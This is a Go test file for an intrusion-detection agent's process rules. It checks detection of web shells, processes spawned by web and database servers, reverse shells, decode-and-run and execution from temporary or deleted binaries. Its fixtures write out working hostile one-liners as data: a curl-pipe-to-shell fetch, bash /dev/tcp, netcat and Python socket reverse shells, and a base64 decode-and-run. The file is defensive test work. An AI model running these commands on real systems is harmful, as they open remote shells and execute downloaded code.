package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/signal"
	"github.com/picket-agent/picket/agent/whitelist"
)

func anc(pid int, comm, exe string, args ...string) event.Ancestor {
	return event.Ancestor{PID: pid, Comm: comm, Exe: exe, Args: args}
}

var (
	systemd = anc(1, "systemd", "/usr/lib/systemd/systemd")
	nginxM  = anc(812, "nginx", "/usr/sbin/nginx", "nginx: master process")
	fpmM    = anc(1100, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process")
	fpmW    = anc(1201, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	shW     = anc(4410, "sh", "/usr/bin/dash", "sh", "-c", "curl -s http://198.18.0.2/x.sh | sh")
	login   = anc(2000, "bash", "/usr/bin/bash", "-bash")
	pg      = anc(700, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres")
)

func proc(pid int, comm, exe string, lineage []event.Ancestor, args ...string) *event.Event {
	ppid := 0
	if len(lineage) > 0 {
		ppid = lineage[0].PID
	}
	return &event.Event{Time: time.Unix(1000, 0), Kind: event.ProcExec,
		Proc: &event.Process{PID: pid, PPID: ppid, Comm: comm, Exe: exe, Args: args, UID: 33, User: "www-data", Lineage: lineage}}
}

func TestProcessInvariants(t *testing.T) {
	cases := []struct {
		name  string
		ev    *event.Event
		rules []string
		text  string // substring of the first reason
	}{
		{"shell under php-fpm", proc(4410, "sh", "/usr/bin/dash", []event.Ancestor{fpmW, fpmM, systemd}, "sh", "-c", "id"),
			[]string{RuleWebShell}, `php-fpm8.2(1100) → php-fpm8.2(1201) → sh(4410) "sh -c id"`},
		{"curl two levels below nginx", proc(4411, "curl", "/usr/bin/curl", []event.Ancestor{shW, fpmW, nginxM, systemd}, "curl", "-s", "http://198.18.0.2/x.sh"),
			[]string{RuleWebChild}, `nginx(812) → php-fpm8.2(1201) → sh(4410) → curl(4411) "curl -s http://198.18.0.2/x.sh"`},
		{"binary renamed httpd (comm) spawning id", proc(5000, "id", "/usr/bin/id", []event.Ancestor{anc(4999, "httpd", "/opt/x/server"), systemd}, "id"),
			[]string{RuleWebChild}, "web server httpd(4999, /opt/x/server) spawned id"},
		{"symlinked exe base name", proc(5001, "bash", "/usr/bin/bash", []event.Ancestor{anc(4998, "worker", "/usr/sbin/lighttpd"), systemd}, "bash"),
			[]string{RuleWebShell}, "lighttpd"},
		{"nginx worker is not a child", proc(813, "nginx", "/usr/sbin/nginx", []event.Ancestor{nginxM, systemd}, "nginx: worker process"), nil, ""},
		{"admin shell is fine", proc(2001, "bash", "/usr/bin/bash", []event.Ancestor{login, systemd}, "bash"), nil, ""},
		{"postgres worker", proc(701, "postgres", "/usr/lib/postgresql/15/bin/postgres", []event.Ancestor{pg, systemd}, "postgres: checkpointer"), nil, ""},
		{"postgres spawning sh", proc(702, "sh", "/usr/bin/dash", []event.Ancestor{pg, systemd}, "sh", "-c", "whoami"),
			[]string{RuleDBChild}, "database server postgres(700) spawned sh"},
		{"dev tcp reverse shell", proc(3000, "bash", "/usr/bin/bash", []event.Ancestor{login, systemd}, "bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"),
			[]string{RuleReverseShell}, "reverse shell (/dev/tcp redirection)"},
		{"nc -e", proc(3001, "nc", "/usr/bin/nc.traditional", []event.Ancestor{login, systemd}, "nc", "198.18.1.1", "4444", "-e", "/bin/sh"),
			[]string{RuleReverseShell}, "netcat executing a shell"},
		{"mkfifo pipe", proc(3002, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.18.1.1 4444 >/tmp/f"),
			[]string{RuleReverseShell}, "named pipe"},
		{"python pty", proc(3003, "python3", "/usr/bin/python3.11", []event.Ancestor{login, systemd}, "python3", "-c", "import pty;pty.spawn('/bin/bash')"),
			[]string{RuleReverseShell}, "pty.spawn"},
		{"python socket shell", proc(3004, "python3", "/usr/bin/python3.11", []event.Ancestor{login, systemd}, "python3", "-c",
			"import socket,subprocess,os;s=socket.socket();s.connect(('198.18.1.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"),
			[]string{RuleReverseShell}, "scripted socket shell"},
		{"base64 decode and run", proc(3005, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "echo aWQK | base64 -d | sh"),
			[]string{RuleDecodeExec}, "decode-and-run"},
		{"base64 decode to a file is fine", proc(3006, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "base64 -d in > out"), nil, ""},
		{"grep -i with redirect is fine", proc(3007, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "grep -i ssh /etc/x >&2"), nil, ""},
		{"exec from /dev/shm", proc(3008, "x", "/dev/shm/x", []event.Ancestor{login, systemd}, "/dev/shm/x"),
			[]string{RuleExecTmp}, "execution from /dev/shm/: /dev/shm/x"},
		{"exec from /tmp under php-fpm", proc(3009, "kworker", "/tmp/.k/kworker", []event.Ancestor{shW, fpmW, fpmM}, "kworker"),
			[]string{RuleExecTmp}, "/tmp/"},
		{"deleted binary", func() *event.Event {
			e := proc(3010, "x", "/opt/x", []event.Ancestor{login, systemd}, "x")
			e.Proc.Deleted = true
			return e
		}(), []string{RuleExecDeleted}, "deleted binary /opt/x"},
		{"not an exec", &event.Event{Kind: event.ProcExit, Proc: &event.Process{PID: 1, Comm: "sh", Lineage: []event.Ancestor{fpmW}}}, nil, ""},
	}
	p := testPolicy(t)
	wl, _ := whitelist.New(p.Whitelist)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := New(p, wl)
			var got []signal.Signal
			set.Observe(c.ev, func(s signal.Signal) { got = append(got, s) })
			var rules []string
			for _, s := range got {
				rules = append(rules, s.Rule)
				if s.Stage != signal.Execution || len(s.Entities) == 0 || len(s.Evidence) != 1 {
					t.Errorf("signal %+v", s)
				}
			}
			if strings.Join(rules, ",") != strings.Join(c.rules, ",") {
				t.Fatalf("rules %v, want %v (%v)", rules, c.rules, got)
			}
			if c.text != "" && !strings.Contains(got[0].Reason, c.text) {
				t.Errorf("reason %q lacks %q", got[0].Reason, c.text)
			}
		})
	}
}

// TestWebChainOneIncidentKey: the shell and the tools below one web worker
// share its process entity, so they correlate into one incident.
func TestWebChainOneIncidentKey(t *testing.T) {
	p := testPolicy(t)
	wl, _ := whitelist.New(p.Whitelist)
	set := New(p, wl)
	var got []signal.Signal
	emit := func(s signal.Signal) { got = append(got, s) }
	set.Observe(proc(4410, "sh", "/usr/bin/dash", []event.Ancestor{fpmW, fpmM}, "sh", "-c", "id"), emit)
	set.Observe(proc(4411, "id", "/usr/bin/id", []event.Ancestor{shW, fpmW, fpmM}, "id"), emit)
	if len(got) != 2 || got[0].Entities[0] != got[1].Entities[0] {
		t.Fatalf("signals %v do not share the web worker entity", got)
	}
}
